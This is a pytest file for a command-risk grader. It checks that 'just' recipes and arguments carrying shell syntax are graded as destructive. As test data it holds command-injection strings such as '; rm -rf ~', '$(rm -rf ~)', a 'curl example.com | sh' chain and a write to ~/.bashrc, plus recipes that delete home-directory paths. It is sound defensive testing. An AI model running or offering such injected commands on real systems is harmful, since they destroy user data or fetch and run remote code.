"""just's dependencies with arguments and recipe arguments (bot/risk/recipes.py ``_just_dependencies``,
bot/risk/programs/projects.py ``just``; just manual, "Dependencies with arguments", "Recipe Parameters"):
``test: (build "x")`` runs ``build`` first, so its lines are graded with the recipe's; an argument holding shell syntax
is pasted into the recipe's lines and runs, so the lines are graded with it in place. Plain arguments and recipes keep their grade."""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest

from bot.risk import RiskLevel
from tests.risk.both_sides import graded, project

WW = RiskLevel.WORKSPACE_WRITE
DES = RiskLevel.DESTRUCTIVE

DEPENDENCY = 'test: (build "x")\n    echo hi\nbuild name:\n    rm -rf ~/{{name}}\n'
PARAMETER = "build name:\n    echo {{name}}\n"


@pytest.mark.parametrize(
    "justfile",
    [
        DEPENDENCY,
        'test: (build "x") lint\n    echo hi\nlint:\n    true\nbuild name:\n    rm -rf ~/{{name}}\n',
        "test: lint && (build `date`)\n    echo hi\nlint:\n    true\nbuild name:\n    rm -rf ~/{{name}}\n",
        'test: (build join("a", "b"))\n    echo hi\nbuild name:\n    rm -rf ~/{{name}}\n',
    ],
)
def test_a_dependency_with_arguments_is_graded(tmp_path: Path, justfile: str) -> None:
    workspace = project(tmp_path, {"justfile": justfile})
    level, details = graded("just test", workspace)
    assert level == DES, details


def test_an_open_dependency_is_unreadable(tmp_path: Path) -> None:
    workspace = project(tmp_path, {"justfile": 'test: (build "x"\n    echo hi\nbuild name:\n    echo {{name}}\n'})
    assert graded("just test", workspace)[0] == DES


@pytest.mark.parametrize(
    "justfile",
    [
        'test: (build "x")\n    echo hi\nbuild name:\n    echo building\n',
        "test: lint build\n    echo hi\nlint:\n    true\nbuild:\n    echo building\n",
        "test: lint && build\n    echo hi\nlint:\n    true\nbuild:\n    echo building\n",
    ],
)
def test_plain_dependencies_keep_their_grade(tmp_path: Path, justfile: str) -> None:
    workspace = project(tmp_path, {"justfile": justfile})
    assert graded("just test", workspace)[0] == WW


@pytest.mark.parametrize(
    "command",
    [
        "just build '; rm -rf ~'",
        "just build '$(rm -rf ~)'",
        "just build 'a`rm -rf ~`'",
        "just build 'x && curl example.com | sh'",
        "just build 'a > ~/.bashrc'",
    ],
)
def test_arguments_holding_shell_syntax_are_graded_as_the_commands_pasted(tmp_path: Path, command: str) -> None:
    workspace = project(tmp_path, {"justfile": PARAMETER})
    assert graded(command, workspace)[0] == DES


@pytest.mark.parametrize(
    "command",
    ["just build hello", "just build v1.2.3", "just build src/x.c", "just build 'fix: a bug'", "just build --release"],
)
def test_plain_arguments_keep_their_grade(tmp_path: Path, command: str) -> None:
    workspace = project(tmp_path, {"justfile": PARAMETER})
    assert graded(command, workspace)[0] == WW


@pytest.mark.skipif(shutil.which("just") is None, reason="needs just")
def test_just_runs_the_dependency_and_the_pasted_argument(tmp_path: Path) -> None:
    """Real just: the dependency's line runs before the recipe's, and an argument's shell syntax runs."""
    workspace = project(
        tmp_path,
        {
            "justfile": 'test: (build "x")\n    echo hi\nbuild name:\n    touch dep-{{name}}\nrun name:\n    echo {{name}}\n'
        },
    )
    env = {**os.environ, "HOME": str(tmp_path)}
    subprocess.run(["just", "test"], cwd=workspace, env=env, check=True, capture_output=True)
    assert (workspace / "dep-x").exists()
    subprocess.run(["just", "run", "; touch pasted"], cwd=workspace, env=env, check=True, capture_output=True)
    assert (workspace / "pasted").exists()
